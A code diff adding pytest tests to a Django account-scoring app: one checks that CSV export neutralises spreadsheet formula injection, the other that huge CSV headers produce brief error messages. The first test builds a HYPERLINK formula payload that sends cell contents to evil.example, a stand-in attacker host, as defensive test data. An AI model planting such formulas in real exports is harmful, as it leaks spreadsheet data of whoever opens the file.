@@ -669,6 +669,39 @@ def test_the_export_without_a_scored_profile_leaves_the_scores_empty(
     assert rows[1] == ["crm-1", "'=HYPERLINK(1)", "acme.example", "", "", "", "", "", ""]
 
 
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_exported_cell_is_kept_from_running_as_a_formula(
+    client: Client, rep: User, icp: Profile, current_run: ScoringRun, lead: str
+) -> None:
+    formula = f'{lead}HYPERLINK("http://evil.example/leak?"&A2,"Open")'
+    Profile.objects.filter(pk=icp.pk).update(name=formula)
+    AccountFactory(external_id=formula, name=formula, domain=formula, employees=450)
+    services.accounts_score(list(Account.objects.values_list("pk", flat=True)))
+    client.force_login(rep)
+    rows = exported(client.get(reverse("account-export"), {"profile": icp.slug}))
+    for column, cell in zip(rows[0], rows[1], strict=True):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), column
+    assert rows[1][rows[0].index("profile")] == "'" + formula
+
+
+def test_a_header_of_sixty_thousand_columns_is_answered_naming_a_few(
+    client: Client, manager: User
+) -> None:
+    header = ",".join(["external_id", "name", *(f"traits.k{n}" for n in range(60_000))])
+    duplicated = header + ",name,traits.k1"
+    with pytest.raises(ingest.ImportFileError) as caught:
+        ingest.csv_rows(f"{duplicated}\ncrm-1,Acme{',' * 60_002}\n".encode())
+    assert caught.value.problems == ["The header names 'name', 'traits.k1' more than once."]
+    unknown = ",".join(["external_id", "name", *(f"col{n}" for n in range(60_000))])
+    client.force_login(manager)
+    response = upload(client, f"{unknown}\ncrm-1,Acme{',' * 60_000}\n".encode())
+    assert response.status_code in (200, 400, 422)
+    message = " ".join(response.context["form"].errors["file"])
+    assert "'col0', 'col1'" in message
+    assert "and 59990 more" in message
+    assert not Account.objects.exists()
+
+
 def test_the_export_names_a_bad_filter(client: Client, rep: User) -> None:
     client.force_login(rep)
     response = client.get(reverse("account-export"), {"score_min": "lots"})
